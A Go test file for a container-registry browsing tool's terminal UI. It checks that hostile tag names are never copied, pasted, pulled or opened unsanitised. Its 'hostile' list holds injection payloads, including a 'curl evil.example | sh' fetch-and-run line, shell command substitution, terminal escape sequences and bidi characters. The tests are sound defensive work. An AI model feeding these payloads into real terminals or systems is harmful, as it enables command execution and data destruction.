package ui_test

import (
	"context"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"

	"tagboat/hub"
	"tagboat/hub/forms"
	"tagboat/hub/hubtest"
	"tagboat/ui"
	"tagboat/ui/screen"
)

// hostile are names that a Hub could send and no image can have.
var hostile = []string{
	"1.0\ncurl evil.example | sh\n", "1.0\r\nreboot\r", "1.0\vx", "1.0\u0085x", "1.0\u2028x", "1.0\u2029x", "x\x00y",
	"\x1b]52;c;cmVib290\x07", "\x1b[201~reboot\r", "\u009b201~x", "fdp.\u202egnp", "a\u2066b\u2069", "a\u200bb", "a\u200db", "a\u00adb", "a\U000e0041b",
	"-rf", "--volume", "$(reboot)", "`reboot`", "a;reboot", "a|b", "a&b", "a b", "a\tb", ">x", "é", "x\ufe0f", "a'b", `a"b`, `a\b`, "\xff",
}

// safe is what a paste may hold: printable ASCII, line by line.
var safe = regexp.MustCompile(`^([!-~][ -~]*\n?)*$`)

// reference is what a reference, an address or a digest is made of.
var reference = regexp.MustCompile(`^[a-z0-9][A-Za-z0-9._/:@-]*$`)

func hostileWorld(name string) func(now time.Time) *hubtest.World {
	return func(now time.Time) *hubtest.World {
		w := hubtest.Demo(now)
		w.AddRepository(hubtest.Repository{Namespace: "evil", Name: name, Updated: now, Type: "image", Description: name})
		w.AddOrganization(hubtest.Organization{Name: "evil", FullName: name, Members: map[string]string{"alice": "Owner"}})
		w.Publish("evil/"+name, hubtest.Tag{Name: "1.0", Updated: now})
		w.Publish("acme/evil", hubtest.Build{Content: "good", Pushed: now.Add(-time.Hour)}.Tags("good")...)
		w.Push("acme/evil", hubtest.Build{Content: "evil", Pushed: now}.Tags(name)...)
		return w
	}
}

// eachHostile plays with each hostile name, and looks at all that leaves the
// program by the way.
func eachHostile(t *testing.T, play func(s *story, name string)) {
	t.Helper()
	for _, name := range hostile {
		t.Run(fmt.Sprintf("%q", name), func(t *testing.T) {
			in := setting{world: hostileWorld(name), width: 120, height: 40, browser: true, outside: ui.Outside{Engine: "/bin/docker"}}
			tell(t, in, func(s *story) {
				play(s, name)
				assert.Regexp(s.t, safe, s.copied)
				for _, url := range s.browsed {
					assert.Regexp(s.t, reference, url)
				}
				assert.Regexp(s.t, `^[^\x00-\x1f\x7f-\x9f\x{200b}-\x{200f}\x{2028}-\x{202e}\x{2066}-\x{2069}]*$`, s.app.View().WindowTitle)
			})
		})
	}
}

func TestANameThatNoImageCanHaveIsNotListedAndThatIsSaid(t *testing.T) {
	eachHostile(t, func(s *story, _ string) {
		s.asks("acme/evil")
		s.sees("1 of 2", "all loaded, 1 could not be read")
		s.types("y")
		assert.Equal(s.t, "acme/evil:good", s.copied)
		s.types("o")
		assert.Len(s.t, s.browsed, 1)
	})
}

func TestNoFormOfAHostileNameHarmsWhoPastesIt(t *testing.T) {
	letters := []string{
		forms.Familiar, forms.Canonical, forms.Pinned, forms.PinnedNow, forms.PlatformDigest, forms.Pull, forms.PullForPlatform, forms.From,
		forms.Compose, forms.Kubernetes, forms.TagsPage, forms.LayersPage, forms.JSON, forms.Markdown,
		forms.PinnedFrom, forms.PinnedCompose, forms.PinnedKubernetes, forms.PinnedPull, forms.PinnedMarkdown,
	}
	eachHostile(t, func(s *story, _ string) {
		s.asks("acme/evil")
		for _, marked := range []bool{false, true} {
			if marked {
				s.types("a")
			}
			for _, letter := range letters {
				s.copied = ""
				s.press("c", letter)
				assert.Regexp(s.t, safe, s.copied, letter)
				if letter != forms.JSON {
					assert.NotRegexp(s.t, "[$;|&>`]", s.copied, letter)
				}
				s.press("esc")
				if !strings.Contains(s.screen(), "acme/evil") {
					s.asks("acme/evil")
				}
			}
		}
	})
}

func TestHostileRepositoriesAreNotCopiedOrOpened(t *testing.T) {
	eachHostile(t, func(s *story, _ string) {
		s.logIn("alice", "anchor")
		s.asks("evil/")
		s.sees("evil")
		s.types("y")
		assert.Empty(s.t, s.copied)
		s.types("o")
		assert.Empty(s.t, s.browsed)
		s.types("i")
		s.types("y")
		s.types("o")
		assert.Empty(s.t, s.copied+strings.Join(s.browsed, ""))
		s.press("esc")
		s.press("ctrl+k")
		s.types("evil")
		s.press("ctrl+y")
		assert.Equal(s.t, "evil", s.copied, "the namespace, which is none of theirs")
	})
}

func TestTheDoorToTheClipboardIsOneForAllCallers(t *testing.T) {
	for _, name := range hostile[:16] {
		tell(t, setting{width: 120, height: 24, browser: true, outside: ui.Outside{Engine: "/bin/docker"}}, func(s *story) {
			host, _ := any(s.app).(screen.Host)
			host.Copy(name)
			s.send(nil)
			s.sees("Not copied: this has no name that is safe to paste")
			host.Pull(hub.Reference{Repository: hub.RepositoryName{Namespace: "acme", Name: "api"}, Tag: name})
			s.send(nil)
			s.sees("Not pulled: no image can have this name")
			host.Browse("https://hub.docker.com/" + name)
			s.send(nil)
			s.sees("Not opened")
			assert.Empty(s.t, s.copied, "%q", name)
			assert.Empty(s.t, s.browsed, "%q", name)
		})
	}
}

func TestACopyAndTheKeyThatQuitsInOneBreath(t *testing.T) {
	for _, quit := range []string{"q", "ctrl+c"} {
		tell(t, setting{}, func(s *story) {
			s.asks("nginx")
			s.breath("y", quit)
			for s.copied == "" && !s.quit { // whichever comes first
				s.take(<-s.messages)
			}
			assert.NotEmpty(s.t, s.copied)
			s.settle()
			assert.True(s.t, s.quit)
		})
	}
}

func TestTheLastOfTwoCopiesIsTheOneThatStays(t *testing.T) {
	first := true
	var done []int
	copying := func(context.Context) {
		slow := first
		if first = false; slow {
			time.Sleep(time.Second)
			done = append(done, 1)
			return
		}
		done = append(done, 2)
	}
	tell(t, setting{copying: copying}, func(s *story) {
		s.asks("nginx")
		s.types("yjy")
		s.pass(3 * time.Second)
		assert.Equal(s.t, []int{1, 2}, done)
	})
}

func TestWhatIsLeftOutOfSeveralIsSaid(t *testing.T) {
	for _, name := range hostile[:16] {
		tell(t, setting{width: 120, height: 24}, func(s *story) {
			host, _ := any(s.app).(screen.Host)
			host.Copy("acme/evil:good", name)
			s.press("left") // what a copy takes to be done
			assert.Equal(s.t, "acme/evil:good", s.copied)
			s.pass(10 * time.Second)
			s.sees("Sent acme/evil:good to the terminal's clipboard; left out: 1 with no name that is safe to paste")
			s.press("left")
			s.misses("left out")
		})
	}
}
